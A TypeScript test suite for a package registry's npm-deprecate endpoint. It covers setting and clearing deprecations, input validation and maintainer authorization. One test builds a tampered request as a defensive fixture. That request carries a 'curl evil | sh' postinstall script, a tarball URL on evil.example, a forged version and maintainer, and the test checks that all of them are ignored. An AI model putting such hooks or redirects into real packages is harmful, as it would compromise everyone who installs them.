import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { ServiceContext } from "../src/context.ts";
import { auditEvents, versions } from "../src/db/schema/index.ts";
import { deprecateVersions } from "../src/packages/deprecate-versions.ts";
import { getTarball } from "../src/packages/get-tarball.ts";
import { getVersionManifest } from "../src/packages/get-version.ts";
import { createTestDeps, type TestDeps, testDrivers, tokenContext } from "../src/testing/index.ts";
import { anonymous, type Doc, failure, publish, readDoc } from "./helpers.ts";

/** What npm deprecate does: GET the full document, set `deprecated` on matching versions, PUT it all back. */
async function npmDeprecateBody(
  ctx: ServiceContext,
  name: string,
  messages: Record<string, string>,
): Promise<Doc> {
  const doc = await readDoc(ctx, name);
  for (const [v, msg] of Object.entries(messages)) doc.versions[v].deprecated = msg;
  return doc;
}

describe.each(testDrivers())("deprecate on %s", (driver) => {
  let deps: TestDeps;
  let alice: ServiceContext;
  let bob: ServiceContext;

  beforeAll(async () => {
    deps = await createTestDeps(driver);
    alice = await tokenContext(deps, { user: "alice", role: "maintainer" });
    bob = await tokenContext(deps, { user: "bob", role: "maintainer" });
    await publish(alice, "old-lib", ["1.0.0", "1.1.0", "2.0.0"]);
  });
  afterAll(async () => deps.close());

  it("deprecates versions in both documents and the version manifest, keeping dist (and its signatures)", async () => {
    const before = await readDoc(alice, "old-lib");
    const body = await npmDeprecateBody(alice, "old-lib", {
      "1.0.0": "use 2.x",
      "1.1.0": "use 2.x",
    });
    const result = await deprecateVersions({ ctx: alice, input: { name: "old-lib", body } });
    expect(result.changed).toEqual({ "1.0.0": "use 2.x", "1.1.0": "use 2.x" });
    const full = await readDoc(alice, "old-lib");
    const corgi = await readDoc(alice, "old-lib", true);
    for (const doc of [full, corgi]) {
      expect(doc.versions["1.0.0"].deprecated).toBe("use 2.x");
      expect(doc.versions["1.1.0"].deprecated).toBe("use 2.x");
      expect(doc.versions["2.0.0"].deprecated).toBeUndefined();
    }
    expect(full._rev).not.toBe(before._rev);
    expect(full.versions["1.0.0"].dist).toEqual(before.versions["1.0.0"].dist);
    const { deprecated: _d, ...rest } = full.versions["1.0.0"];
    expect(rest).toEqual(before.versions["1.0.0"]);
    expect(
      (await getVersionManifest({ ctx: alice, input: { name: "old-lib", spec: "1.0.0" } }))
        .deprecated,
    ).toBe("use 2.x");
    const audit = await deps.db
      .select()
      .from(auditEvents)
      .where(eq(auditEvents.action, "package.deprecate"));
    expect(audit).toHaveLength(1);
  });

  it('clears a deprecation with "" (npm undeprecate), and an unchanged body changes nothing', async () => {
    const body = await npmDeprecateBody(alice, "old-lib", { "1.0.0": "" });
    const result = await deprecateVersions({ ctx: alice, input: { name: "old-lib", body } });
    expect(result.changed).toEqual({ "1.0.0": null });
    const doc = await readDoc(alice, "old-lib");
    expect(doc.versions["1.0.0"].deprecated).toBeUndefined();
    expect("deprecated" in doc.versions["1.0.0"]).toBe(false);
    expect(doc.versions["1.1.0"].deprecated).toBe("use 2.x");
    const [row] = await deps.db
      .select({ deprecated: versions.deprecated })
      .from(versions)
      .where(eq(versions.version, "1.0.0"));
    expect(row?.deprecated).toBeNull();

    const again = await deprecateVersions({
      ctx: alice,
      input: { name: "old-lib", body: await readDoc(alice, "old-lib") },
    });
    expect(again.changed).toEqual({});
    expect(again.rev).toBe(doc._rev);
  });

  it("a tampered body changes deprecation only: no manifest, dist, tag or maintainer moves", async () => {
    await publish(alice, "victim", ["1.0.0"]);
    const before = await readDoc(alice, "victim");
    const tarballBefore = await getTarball({
      ctx: alice,
      input: { name: "victim", filename: "victim-1.0.0.tgz" },
    });
    if (tarballBefore.kind !== "stream") throw new Error("fs store streams");
    const bytesBefore = Buffer.from(await new Response(tarballBefore.body).arrayBuffer());

    const body = structuredClone(before);
    const v = body.versions["1.0.0"];
    v.deprecated = "tampered";
    v.dist.tarball = "https://evil.example/victim-1.0.0.tgz";
    v.dist.integrity = "sha512-evil";
    v.dist.shasum = "0000";
    v.dependencies = { evil: "*" };
    v.scripts = { postinstall: "curl evil | sh" };
    body.versions["6.6.6"] = { ...v, version: "6.6.6" };
    delete body.versions["6.6.6"].deprecated;
    body["dist-tags"] = { latest: "6.6.6", evil: "1.0.0" };
    body.maintainers = [{ name: "mallory", email: "m@evil" }];
    body.description = "owned";
    body.readme = "owned";
    await deprecateVersions({ ctx: alice, input: { name: "victim", body } });

    const after = await readDoc(alice, "victim");
    expect(after.versions["1.0.0"].deprecated).toBe("tampered");
    const { deprecated: _d, ...rest } = after.versions["1.0.0"];
    expect(rest).toEqual(before.versions["1.0.0"]);
    expect(Object.keys(after.versions)).toEqual(["1.0.0"]);
    expect(after["dist-tags"]).toEqual(before["dist-tags"]);
    expect(after.maintainers).toEqual(before.maintainers);
    expect(after.description).toBe(before.description);
    expect(after.readme).toBe(before.readme);
    const corgi = await readDoc(alice, "victim", true);
    expect(corgi.versions["1.0.0"].dependencies).toBeUndefined();
    expect(corgi.versions["1.0.0"].hasInstallScript).toBeUndefined();
    const tarballAfter = await getTarball({
      ctx: alice,
      input: { name: "victim", filename: "victim-1.0.0.tgz" },
    });
    if (tarballAfter.kind !== "stream") throw new Error("fs store streams");
    expect(Buffer.from(await new Response(tarballAfter.body).arrayBuffer())).toEqual(bytesBefore);
  });

  it("refuses unknown and unpublished versions, bad messages, and a body for another package", async () => {
    const unknown = await failure(
      deprecateVersions({
        ctx: alice,
        input: { name: "old-lib", body: { versions: { "9.9.9": { deprecated: "x" } } } },
      }),
    );
    expect(unknown.code).toBe("NOT_FOUND");
    expect(unknown.message).toContain("9.9.9");
    await publish(alice, "half-gone", ["1.0.0", "1.0.1"]);
    await deps.db
      .update(versions)
      .set({ unpublishedAt: new Date() })
      .where(eq(versions.version, "1.0.1"));
    expect(
      (
        await failure(
          deprecateVersions({
            ctx: alice,
            input: { name: "half-gone", body: { versions: { "1.0.1": { deprecated: "x" } } } },
          }),
        )
      ).message,
    ).toMatch(/was unpublished/);
    for (const body of [
      { versions: { "1.0.0": { deprecated: 42 } } },
      { versions: { "1.0.0": { deprecated: null } } },
      { versions: { "1.0.0": { deprecated: "x".repeat(1025) } } },
      { versions: [] },
      { name: "other-lib", versions: { "1.0.0": { deprecated: "x" } } },
      "garbage",
    ]) {
      const err = await failure(
        deprecateVersions({ ctx: alice, input: { name: "old-lib", body } }),
      );
      expect(err.code, JSON.stringify(body).slice(0, 80)).toBe("VALIDATION");
    }
  });

  it("lets only maintainers with a publishing token in scope deprecate", async () => {
    const input = { name: "old-lib", body: { versions: { "2.0.0": { deprecated: "x" } } } };
    expect((await failure(deprecateVersions({ ctx: anonymous(deps), input }))).code).toBe(
      "UNAUTHORIZED",
    );
    const reader = await tokenContext(deps, { user: "ci", role: "ci-readonly", kind: "ci" });
    expect((await failure(deprecateVersions({ ctx: reader, input }))).code).toBe("FORBIDDEN");
    const notMine = await failure(deprecateVersions({ ctx: bob, input }));
    expect(notMine.message).toMatch(/not a maintainer/);
    const scoped = await tokenContext(deps, {
      user: "alice",
      role: "maintainer",
      scopes: ["@acme"],
    });
    expect((await failure(deprecateVersions({ ctx: scoped, input }))).code).toBe("SCOPE_FORBIDDEN");
    expect((await readDoc(alice, "old-lib")).versions["2.0.0"].deprecated).toBeUndefined();
  });
});
